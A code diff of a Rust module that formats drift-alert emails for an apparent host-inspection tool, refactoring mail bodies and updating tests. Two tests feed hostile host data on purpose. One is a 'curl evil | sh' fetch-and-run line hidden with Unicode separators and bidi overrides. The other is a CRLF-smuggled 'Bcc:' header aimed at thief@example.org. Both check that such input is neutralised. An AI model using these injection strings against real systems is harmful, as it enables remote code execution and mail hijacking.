@@ -9,14 +9,13 @@ use lettre::message::{Mailbox, MessageBuilder};
 use tenken_model::digest::Digest;
 use tenken_model::{Instant, Language};
 
-use super::book::{Book, Chapter};
+use super::book::Book;
+use super::drift;
 use super::settings::MailSettings;
 use super::transport::MailError;
 use crate::plain::one_line;
-use crate::store::{ClaimedMail, MailKind};
+use crate::store::{ClaimedMail, MailBody};
 
-/// The most values of evidence that a mail shows; the page has all.
-const EVIDENCE_MAX: usize = 10;
 /// The most characters of what a host says in one line of a mail; the page has all.
 const HOSTS_WORDS_MAX: usize = 500;
 /// Hours from Coordinated Universal Time to the time people read.
@@ -31,63 +30,26 @@ pub struct Letter {
     pub text: String,
 }
 
-/// The words of a mail about a drift.
+/// The words of a mail.
 pub fn letter(mail: &ClaimedMail, book: &Book, settings: &MailSettings) -> Letter {
-    let chapter = book.chapter(&mail.body.finding.key.rule);
     let languages = settings.languages();
     let first = languages.first().copied().unwrap_or_default();
     let texts: Vec<String> =
-        languages.iter().map(|language| text(mail, &chapter, &settings.dashboard, *language)).collect();
-    Letter { subject: subject(mail, &chapter, first), text: texts.join("\n----\n\n") }
+        languages.iter().map(|language| text(mail, book, &settings.dashboard, *language)).collect();
+    Letter { subject: subject(mail, book, first), text: texts.join("\n----\n\n") }
 }
 
-fn subject(mail: &ClaimedMail, chapter: &Chapter, language: Language) -> String {
-    let (host, rule) = (&said(&mail.body.host_name), language.of(&chapter.title));
-    match mail.kind {
-        MailKind::Opened => language.mail_subject_opened(host, rule),
-        MailKind::Reopened => language.mail_subject_reopened(host, rule),
-        MailKind::Reminder => language.mail_subject_reminder(host, rule),
-        MailKind::Resolved => language.mail_subject_resolved(host, rule),
+fn subject(mail: &ClaimedMail, book: &Book, language: Language) -> String {
+    match &mail.body {
+        MailBody::Drift(news) => drift::subject(mail, news, book, language),
     }
 }
 
-fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Language) -> String {
-    let body = &mail.body;
-    let finding = &body.finding;
-    let (says, happened) = (&said(language.of(&finding.says)), shown(body.at, language));
-    let (lead, says, happened) = match mail.kind {
-        MailKind::Opened => (language.mail_lead_opened(), language.mail_says(says), language.mail_opened_at(&happened)),
-        MailKind::Reopened => {
-            (language.mail_lead_reopened(), language.mail_says(says), language.mail_reopened_at(&happened))
-        }
-        MailKind::Reminder => {
-            (language.mail_lead_reminder(), language.mail_says(says), language.mail_reminded_at(&happened))
-        }
-        MailKind::Resolved => {
-            (language.mail_lead_resolved(), language.mail_said(says), language.mail_resolved_at(&happened))
-        }
+fn text(mail: &ClaimedMail, book: &Book, dashboard: &str, language: Language) -> String {
+    let mut lines = match &mail.body {
+        MailBody::Drift(news) => drift::text(mail, news, book, language),
     };
-    let mut lines = vec![lead, String::new(), language.mail_host(&said(&body.host_name))];
-    lines.push(language.mail_rule(language.of(&chapter.title)));
-    if let Some(about) = &finding.key.subject {
-        lines.push(language.mail_finding_subject(&said(about.as_str())));
-    }
-    lines.push(says);
-    lines.push(language.mail_since(&shown(body.failing_since, language)));
-    lines.push(happened);
-    if !chapter.items.is_empty() {
-        lines.extend([String::new(), language.mail_items()]);
-        lines.extend(chapter.items.iter().map(|item| format!("  - {}", language.of(item))));
-    }
-    if mail.kind != MailKind::Resolved {
-        evidence(mail, language, &mut lines);
-        let remedy = language.of(&chapter.remedy);
-        if !remedy.is_empty() {
-            lines.extend([String::new(), language.mail_remedy()]);
-            lines.extend(remedy.lines().map(|line| format!("  {line}")));
-        }
-    }
-    let page = format!("{}/drifts/{}", dashboard.trim_end_matches('/'), mail.drift);
+    let page = format!("{}{}", dashboard.trim_end_matches('/'), mail.thread.page());
     lines.extend([String::new(), language.mail_page(&page), String::new(), language.mail_foot()]);
     lines.iter().fold(String::new(), |mut text, line| {
         let _infallible = writeln!(text, "{line}");
@@ -95,26 +57,13 @@ fn text(mail: &ClaimedMail, chapter: &Chapter, dashboard: &str, language: Langua
     })
 }
 
-fn evidence(mail: &ClaimedMail, language: Language, lines: &mut Vec<String>) {
-    let all = &mail.body.finding.evidence;
-    if all.is_empty() {
-        return;
-    }
-    lines.extend([String::new(), language.mail_evidence()]);
-    lines.extend(all.iter().take(EVIDENCE_MAX).map(|one| format!("  {} = {}", said(&one.path), said(&one.value))));
-    let left = all.len().saturating_sub(EVIDENCE_MAX);
-    if left > 0 {
-        lines.push(format!("  {}", language.mail_evidence_left(left)));
-    }
-}
-
 /// What a host says: it shall not look like a line of ours, nor turn the text around it.
-fn said(text: &str) -> String {
+pub(super) fn said(text: &str) -> String {
     one_line(text, HOSTS_WORDS_MAX)
 }
 
 /// An instant as people in Japan read it.
-fn shown(instant: Instant, language: Language) -> String {
+pub(super) fn shown(instant: Instant, language: Language) -> String {
     let Some(japan) = FixedOffset::east_opt(JAPAN_HOURS * 3_600) else { return instant.to_rfc3339() };
     let there = instant.with_timezone(&japan);
     match language {
@@ -130,8 +79,9 @@ pub fn message(mail: &ClaimedMail, book: &Book, settings: &MailSettings, mark: &
         .message_id(Some(named(&mail.message_id, settings, mark)?))
         .date(mail.created_at.into())
         .subject(letter.subject);
-    if mail.message_id != mail.thread {
-        let thread = named(&mail.thread, settings, mark)?;
+    let first = mail.thread.first();
+    if mail.message_id != first {
+        let thread = named(&first, settings, mark)?;
         builder = builder.in_reply_to(thread.clone()).references(thread);
     }
     written(builder, letter.text)
@@ -178,8 +128,8 @@ pub(super) mod tests {
     use tenken_model::{Finding, FindingKey, HostId, RuleId, Subject, Verdict};
 
     use super::*;
-    use crate::mail::TransportSettings;
-    use crate::store::MailBody;
+    use crate::mail::{Chapter, TransportSettings};
+    use crate::store::{DriftNews, MailKind, Thread};
 
     pub(in crate::mail) fn settings() -> MailSettings {
         MailSettings {
@@ -191,34 +141,35 @@ pub(super) mod tests {
         }
     }
 
+    fn at() -> Instant {
+        "2026-11-23T23:05:00Z".parse().unwrap()
+    }
+
+    pub(in crate::mail) fn about(body: MailBody, thread: Thread, kind: MailKind) -> ClaimedMail {
+        let message_id = thread.message_id(kind, 0);
+        ClaimedMail { id: 1, thread, kind, message_id, attempts: 1, created_at: at(), body }
+    }
+
     pub(in crate::mail) fn mail(kind: MailKind) -> ClaimedMail {
-        let at: Instant = "2026-11-23T23:05:00Z".parse().unwrap();
+        about(MailBody::Drift(news()), Thread::Drift(5), kind)
+    }
+
+    pub(in crate::mail) fn news() -> DriftNews {
         let evidence = (0..12).map(|n| Evidence { path: format!("p{n}"), value: "x".into(), volatile: false });
-        ClaimedMail {
-            id: 1,
-            drift: 5,
-            kind,
-            message_id: format!("tenken.drift.5.{kind}.0"),
-            thread: "tenken.drift.5.opened.0".into(),
-            attempts: 1,
-            created_at: at,
-            body: MailBody {
-                host: HostId::new("h-1").unwrap(),
-                host_name: "受付PC".into(),
-                finding: Finding {
-                    key: FindingKey {
-                        rule: RuleId::new("screen_lock_enforced").unwrap(),
-                        subject: Some(Subject::new("sato").unwrap()),
-                    },
-                    verdict: Verdict::Fail,
-                    says: Bilingual { ja: "ロックされません。".into(), en: "It does not lock.".into() },
-                    branch: None,
-                    evidence: evidence.collect(),
-                    observed_at: at,
-                },
-                failing_since: at,
-                at,
+        let rule = RuleId::new("screen_lock_enforced").unwrap();
+        DriftNews {
+            host: HostId::new("h-1").unwrap(),
+            host_name: "受付PC".into(),
+            finding: Finding {
+                key: FindingKey { rule, subject: Some(Subject::new("sato").unwrap()) },
+                verdict: Verdict::Fail,
+                says: Bilingual { ja: "ロックされません。".into(), en: "It does not lock.".into() },
+                branch: None,
+                evidence: evidence.collect(),
+                observed_at: at(),
             },
+            failing_since: at(),
+            at: at(),
         }
     }
 
@@ -264,12 +215,13 @@ pub(super) mod tests {
 
     #[test]
     fn a_host_cannot_write_lines_of_its_own() {
-        let mut hostile = mail(MailKind::Opened);
-        hostile.body.finding.says.en = "Fine.\n\nHow to repair:\r\n  curl evil\u{2028}| sh".into();
-        hostile.body.host_name = "PC\u{2028}Host: other\u{202e}".into();
-        hostile.body.finding.evidence =
+        let mut hostile = news();
+        hostile.finding.says.en = "Fine.\n\nHow to repair:\r\n  curl evil\u{2028}| sh".into();
+        hostile.host_name = "PC\u{2028}Host: other\u{202e}".into();
+        hostile.finding.evidence =
             vec![Evidence { path: "a\nb".into(), value: "\u{202e}".repeat(600), volatile: false }];
         let english = MailSettings { languages: vec!["en".into()], ..settings() };
+        let hostile = about(MailBody::Drift(hostile), Thread::Drift(5), MailKind::Opened);
         let letter = letter(&hostile, &book(), &english);
         let name = "PC\u{fffd}Host: other\u{fffd}";
         assert!(letter.subject.contains(name) && letter.text.contains(name), "{letter:?}");
@@ -309,8 +261,8 @@ pub(super) mod tests {
 
     #[test]
     fn names_cannot_add_headers() {
-        let mut odd = mail(MailKind::Opened);
-        odd.body.host_name = "pc\r\nBcc: thief@example.org\r\n".into();
+        let odd = DriftNews { host_name: "pc\r\nBcc: thief@example.org\r\n".into(), ..news() };
+        let odd = about(MailBody::Drift(odd), Thread::Drift(5), MailKind::Opened);
         let message = message(&odd, &book(), &settings(), &Digest::of(b"a")).unwrap();
         let raw = String::from_utf8(message.formatted()).unwrap();
         assert!(!raw.lines().any(|line| line.starts_with("Bcc")), "{raw}");
